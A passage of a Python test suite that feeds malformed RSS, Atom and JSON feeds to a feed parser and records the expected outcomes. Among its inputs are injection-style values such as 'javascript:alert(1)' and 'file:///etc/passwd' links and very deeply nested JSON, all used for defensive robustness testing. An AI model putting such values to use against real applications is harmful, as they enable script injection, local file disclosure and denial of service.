        "encoding",
        rss(two("declared-twice"), head='<?xml version="1.0" encoding="utf-8" encoding="koi8-r"?>'),
    ),
    good("declared-long", "encoding", rss(two("declared-long"), head=f'<?xml version="1.0" encoding="{"x" * 5_000}"?>')),
    good("declared-late", "encoding", "<!-- x -->" + rss(two("declared-late"), head='<?xml version="1.0" encoding="utf-8"?>')),
    good("mark-inside", "encoding", rss(two("mark-inside")).replace("<channel>", "\ufeff<channel>\ufeff")),
    good("mark-after", "encoding", rss(two("mark-after"), head=XML + "\ufeff")),
]


# --- XML and its neighbours -------------------------------------------------------------------------------------------


def mangled(name: str, old: str, new: str, **more: object) -> Case:
    return good(name, "malformed", rss(two(name)).replace(old, new), **more)


MALFORMED = [
    mangled("no-end-item", "</item>", ""),
    mangled("no-end-title", "</title>", ""),
    mangled("no-end-any", "</description>", ""),
    mangled("no-root-end", "</rss>", ""),
    mangled("no-channel-end", "</channel></rss>", ""),
    mangled("end-twice", "</item>", "</item></item>"),
    mangled("slash-space", "</title>", "< /title>"),
    mangled("tag-space", "<title>", "< title>"),
    mangled("tag-digit", "<description>", "<1st>x</1st><description>"),
    mangled("tag-odd", "<description>", "<a$b>x</a$b><description>"),
    mangled("tag-unicode", "<description>", "<тег>x</тег><description>"),
    mangled("attribute-empty", "<item>", "<item hidden>"),
    mangled("attribute-lt", "<item>", '<item note="a < b">'),
    mangled("attribute-amp", "<item>", '<item note="a & b">'),
    mangled("attribute-open", "<item>", '<item note="a>'),
    mangled("attributes-glued", "<item>", '<item a="1"b="2">'),
    mangled("attribute-colons", "<item>", '<item a:b:c="1">'),
    mangled("amp-end", "Text of", "Text & "),
    mangled("entity-long", "Text of", f"&{'e' * 5_000}; of"),
    mangled("entity-hex-upper", "Text of", "&#XE9; of"),
    mangled("entity-empty", "Text of", "&#; &#x; &; of"),
    mangled("entity-minus", "Text of", "&#-1; &#x-1; of"),
    mangled("entity-no-semicolon", "Text of", "&eacute &copy of"),
    mangled("pi-odd", "<channel>", "<?php echo 1 ?><channel>"),
    mangled("pi-xml-inside", "<channel>", "<?xml version='1.0'?><channel>"),
    mangled("comment-dashes", "<channel>", "<!-- a -- b ---><channel>"),
    good(
        "comment-items",
        "malformed",
        rss("<!-- ", item("commented-out"), " -->", two("comment-items")),
        absent=("commented-out",),
    ),
    good(
        "item-of-attributes",
        "malformed",
        rss(f"<item {STUFFED}><title>item-of-attributes-1</title></item>", item("item-of-attributes-2")),
    ),
    good(
        "cdata-left-open",
        "malformed",
        rss(
            item("cdata-left-open-1"),
            "<item><title><![CDATA[cdata-left-open-2</title></item>",
            "<item><title><![CDATA[cdata-left-open-3]]></title></item>",
        ),
        3,
    ),
    good(
        "link-shared",
        "identity",
        rss(*(f"<item><title>link-shared-{n}</title><link>https://outlet.example/</link></item>" for n in (1, 2))),
    ),
    later(
        "guid-bare-cut",
        "identity",
        turns(*(rss(two("guid-bare-cut")).replace(" isPermaLink='false'", "")[:end] for end in (-20, None))),
        "guid-bare-cut-1",
        "guid-bare-cut-2",
        items=2,
    ),
    mangled("comment-open", "</channel>", "<!-- </channel>"),
    mangled("cdata-stray", "Text of", "]]> of"),
    mangled("cdata-lower", "Text of", "<![cdata[x]]> of"),
    mangled("cdata-space", "Text of", "<! [CDATA[x]]> of"),
    mangled("doctype-inside", "<channel>", "<!DOCTYPE foo><channel>"),
    mangled("declaration-element", "<channel>", "<!ELEMENT rss ANY><channel>"),
    mangled("prefix-xml", "<channel>", "<xml:thing>x</xml:thing><channel>"),
    mangled("prefix-unbound-root", "<rss ", "<foo:bar xmlns:foo='x'/><rss "),
    mangled("namespace-empty", "<channel>", '<channel xmlns="">'),
    mangled("namespace-prefix-empty", "<channel>", '<channel xmlns:a="">'),
    mangled("nel", "<channel>", "\x85\u2028<channel>"),
    mangled("tabs", "<item>", "\t\v\f<item\t>"),
    mangled("crlf", "><", ">\r\n<"),
    mangled("cr-only", "><", ">\r<"),
    mangled("upper-all", "item", "ITEM"),
    mangled("html-inside", "Text of", "<p>one<br>two<hr><img src=x></p> of"),
    mangled("title-lt", "Report", "3<4 Report"),
    mangled("quotes-typographic", 'version="2.0"', "version=”2.0”"),
    mangled("version-odd", "2.0", "nine"),
    mangled("root-upper", "rss", "RSS"),
    mangled("self-closed", "<link>https://outlet.example/</link>", "<link/>"),
    good("headers-inside", "junk", "Content-Type: text/xml\r\nX-Powered-By: x\r\n\r\n" + rss(two("headers-inside"))),
    good(
        "php-warning",
        "junk",
        "<br />\n<b>Warning</b>: include(): x in <b>/a.php</b> on line <b>3</b><br />\n" + rss(two("php-warning")),
    ),
    good("letter-before", "junk", "a" + rss(two("letter-before"))),
    good("nul-before", "junk", "\0\0" + rss(two("nul-before"))),
    good("junk-long-before", "junk", "x" * 50_000 + rss(two("junk-long-before"))),
    good("html-after", "junk", rss(two("html-after")) + "<html><body>served by x</body></html>"),
    good("two-feeds-formats", "several documents", rss(item("two-feeds-formats-1")) + atom(entry("two-feeds-formats-2"))),
    good("three-documents", "several documents", "".join(rss(item(f"three-documents-{n}")) for n in (1, 2, 3)), 3),
    good("pre-wrapped", "junk", f"<pre>{rss(two('pre-wrapped'))}</pre>"),
    good("cdata-wrapped", "junk", f"<feed-wrapper><![CDATA[x]]>{rss(two('cdata-wrapped'), head='')}</feed-wrapper>"),
    good("jsonp-like", "junk", f"/* x */{rss(two('jsonp-like'))};"),
    good("rdf-no-namespace", "format", "<rdf><channel/>" + two("rdf-no-namespace") + "</rdf>"),
    good("atom-no-namespace", "format", f"<feed>{entry('atom-no-namespace-1')}</feed>", 1),
    good(
        "atom-in-rss",
        "format",
        rss(
            "<atom:entry><atom:title>atom-in-rss-1</atom:title><atom:id>x</atom:id></atom:entry>",
            attributes="xmlns:atom='http://www.w3.org/2005/Atom'",
        ),
        1,
    ),
    good("rss-in-atom", "format", atom(item("rss-in-atom-1")), 1),
    good(
        "atom-old-uri",
        "format",
        atom(entry("atom-old-uri-1")).replace(
            "http://www.w3.org/2005/Atom", "http://purl.org/atom/ns#draft-ietf-atompub-format-05"
        ),
        1,
    ),
    good(
        "channels-two",
        "format",
        f"<rss version='2.0'><channel>{item('channels-two-1')}</channel><channel>{item('channels-two-2')}</channel></rss>",
    ),
    good(
        "skip-odd",
        "format",
        rss(
            two("skip-odd"),
            channel="<skipHours><hour>²</hour><hour>-1</hour><hour>99</hour>"
            "<hour>٣</hour></skipHours><skipDays><day>Caturday</day></skipDays><ttl>٣</ttl>",
        ),
    ),
    good("ttl-odd", "format", rss(two("ttl-odd"), channel="<ttl>99999999999</ttl><ttl>-4</ttl><ttl>soon</ttl>")),
    good(
        "period-odd",
        "format",
        rss(
            two("period-odd"),
            channel="<sy:updatePeriod>never</sy:updatePeriod><sy:updateFrequency>0</sy:updateFrequency>",
            attributes="xmlns:sy='http://purl.org/rss/1.0/modules/syndication/'",
        ),
    ),
    good(
        "media-deep",
        "format",
        rss(
            item("media-deep-1", "<media:group>" * 100 + "<media:content url='https://o.example/x'/>" + "</media:group>" * 100),
            attributes="xmlns:media='http://search.yahoo.com/mrss/'",
        ),
        1,
    ),
    good("source-odd", "format", rss(item("source-odd-1", "<source url='javascript:x'/><source><a/></source>")), 1),
    good("lang-odd", "format", rss(item("lang-odd-1"), attributes="xml:lang='x'", channel="<language>🏴</language>"), 1),
    *(
        Case(
            f"truncated-{cut}",
            "truncated",
            http(rss(item(f"truncated-{cut}-1"), item("tail" + "x" * 60))[:-cut]),
            "new",
            (f"truncated-{cut}-1",),
        )
        for cut in (3, 20, 40, 75, 100, 130)
    ),
    *(Case(f"begun-{cut}", "truncated", http(rss(item("x"))[:cut]), "failed|new|unchanged") for cut in (1, 5, 38, 60, 80, 100)),
]


# --- JSON -------------------------------------------------------------------------------------------------------------


def js(name: str, text: str, tokens: int = 2, **more: object) -> Case:
    return good(name, "JSON", text, tokens, content="application/feed+json", **more)


def feed(name: str, *more: object, **about: object) -> dict[str, object]:
    return {
        "version": JSON_FEED,
        "title": "T",
        **about,
        "items": [{"id": f"{name}-{n}", "title": f"{name}-{n}"} for n in (1, 2)] + list(more),
    }


JSONS = [
    js(
        "json-ids",
        json.dumps(
            {
                "version": JSON_FEED,
                "items": [
                    {"id": 1.5, "title": "json-ids-1"},
                    {"id": {"a": 1}, "title": "json-ids-2"},
                    {"id": [1], "title": "json-ids-3"},
                    {"id": False, "title": "json-ids-4"},
                ],
            }
        ),
        4,
    ),
    js("json-nested", json.dumps(feed("json-nested"))[:-2] + ', "x": ' + "[" * 100_000 + "]" * 100_000 + "}]}"),
    js("json-comma", json.dumps(feed("json-comma"))[:-2] + ",]}"),
    js("json-tail", json.dumps(feed("json-tail")) + "\n<script>x</script>"),
    js("json-nan", json.dumps(feed("json-nan", about=float("nan"), more=float("inf")))),
    js("json-deep-extension", json.dumps(feed("json-deep-extension")).replace('"T"', "[" * 900 + "]" * 900)),
    js("json-too-deep", json.dumps(feed("json-too-deep")).replace('"T"', "[" * 50_000 + "]" * 50_000)),
    js("json-twice", '{"items": [], ' + json.dumps(feed("json-twice"))[1:]),
    js("json-surrogates", json.dumps(feed("json-surrogates")).replace('"T"', '"\\ud800\\udfff\\udc00"')),
    js("json-nul", json.dumps(feed("json-nul")).replace("json-nul-1", "json-nul-1\\u0000\\u001b[31m"), absent=("\0", "\x1b")),
    js("json-controls", json.dumps(feed("json-controls")).replace("json-controls-1", "json-controls-1\n\t\x01")),
    js("json-big-number", json.dumps(feed("json-big-number")).replace('"T"', "1" + "0" * 5_000)),
    js("json-exponent", json.dumps(feed("json-exponent")).replace('"T"', "1e999999")),
    js(
        "json-dates",
        json.dumps(
            feed(
                "json-dates",
                {"id": 3, "title": "json-dates-3", "date_published": "0000-00-00"},
                {"id": 4, "title": "json-dates-4", "date_published": ["x"]},
            )
        ),
        4,
    ),
    js(
        "json-types",
        json.dumps(
            {
                "version": 7,
                "title": {},
                "home_page_url": 3,
                "language": [],
                "authors": {"a": 1},
                "items": [
                    {
                        "id": "1",
                        "title": "json-types-1",
                        "tags": 3,
                        "attachments": "x",
                        "url": 5,
                        "authors": [None, 3, {"name": {}}],
                        "image": {},
                    }
                ],
            }
        ),
        1,
    ),
    js(
        "json-links",
        json.dumps(
            feed(
                "json-links",
                {"id": 3, "title": "json-links-3", "url": "javascript:alert(1)", "external_url": "file:///etc/passwd"},
            )
        ),
        3,
        absent=("javascript:", "file:"),
    ),
    js(
        "json-object-items",
        json.dumps(
            {
                "version": JSON_FEED,
                "items": [
                    {"id": "a", "content_html": "<b>json-object-items-1</b>"},
                    {"content_text": "<b>json-object-items-2</b>"},
                ],
            }
        ),
    ),
    js("json-utf16", json.dumps(feed("json-utf16")).encode("utf-16-le")),  # type: ignore[arg-type]
    js("json-mark-16", "\ufeff".encode("utf-16-le") + json.dumps(feed("json-mark-16")).encode("utf-16-le")),  # type: ignore[arg-type]
    js("json-blank", "\n\n \t" + json.dumps(feed("json-blank"))),
    js("json-list", json.dumps([{"id": "1", "title": "json-list-1"}, {"id": "2", "title": "json-list-2"}])),
    js("json-as-html", json.dumps(feed("json-as-html"))),
    *(
        Case(
            f"json-cut-{cut}",
            "truncated",
            http(json.dumps(feed(f"json-cut-{cut}", {"id": "3", "title": "x" * 60}))[:-cut]),
            "new",
            (f"json-cut-{cut}-1", f"json-cut-{cut}-2"),
        )
        for cut in (1, 4, 30)
    ),
    Case("json-null", "JSON", http("null", kind="application/json"), "failed"),
    Case("json-number", "JSON", http("42", kind="application/json"), "failed"),
    Case("json-string", "JSON", http('"<rss>"', kind="application/json"), "failed"),
    Case("json-empty", "JSON", http("{}", kind="application/json"), "failed"),
    Case(
        "json-no-items",
        "JSON",
        http(json.dumps({"version": JSON_FEED, "items": []}), kind="application/json"),
        "new|failed",
        items=0,
    ),
    Case("json-items-object", "JSON", http(json.dumps({"version": JSON_FEED, "items": {"a": 1}})), "failed"),
]


# --- dates ------------------------------------------------------------------------------------------------------------

DATES = [
    good(
        f"when-{name}",
        "dates",
        rss(
            item(f"when-{name}-1", f"<pubDate>{value}</pubDate><dc:date>{value}</dc:date>"),
            attributes="xmlns:dc='http://purl.org/dc/elements/1.1/'",
        ),
        1,
    )
    for name, value in {
        "superscript": "²⁰²⁵-⁰²-¹⁸",
        "wide": "２０２５-０２-１８",
        "devanagari": "१८ फ़रवरी २०२५",
        "thai": "18 ก.พ. 2568",
        "hijri": "1446-08-19",
        "persian": "۱۴۰۳-۱۱-۳۰",
        "japanese": "令和7年2月18日",
        "roman": "18.II.2025",
        "leap-second": "2016-12-31T23:59:60Z",
        "hour-24": "2025-02-18T24:00:00Z",
        "february-30": "2025-02-30T00:00:00Z",
        "epoch-milli": "1739871000000",
        "epoch-nano": "1739871000000000000",
        "epoch-negative": "-62135596800",
        "float": "1.739871e9",
        "nan": "NaN",
        "infinity": "Infinity",
        "null": "null",
        "zone-name": "Tue, 18 Feb 2025 09:30:00 XYZ",
        "zone-huge": "2025-02-18T09:30:00+99:99",
        "zone-words": "Tue, 18 Feb 2025 09:30:00 (Eastern Standard Time)",
        "two-digit": "18 Feb 25 09:30",
        "five-digit": "12025-02-18T09:30:00Z",
        "minus-year": "-2025-02-18T09:30:00Z",
        "week": "2025-W08-2",
        "ordinal": "2025-049",
        "asctime": "Tue Feb 18 09:30:00 2025",
        "rfc850": "Tuesday, 18-Feb-25 09:30:00 GMT",
        "us": "02/18/2025 9:30 AM",
        "markup": "&lt;b&gt;today&lt;/b&gt;",
        "long": "2025-02-18" + " " * 5_000,
        "control": "2025-02-18\u200b\u202e",
        "future": "2098-01-01T00:00:00Z",
        "list": "2025-02-18, 2025-02-19",
        "many": "1 " * 90,
        "colons": "12:12:12:12:12",
    }.items()
]

WORSE = list(chain(COMPRESSED, HEADERS, RETRY, TURNS, SIZES, WORDS, LINKS, CHARSETS, MALFORMED, JSONS, DATES))
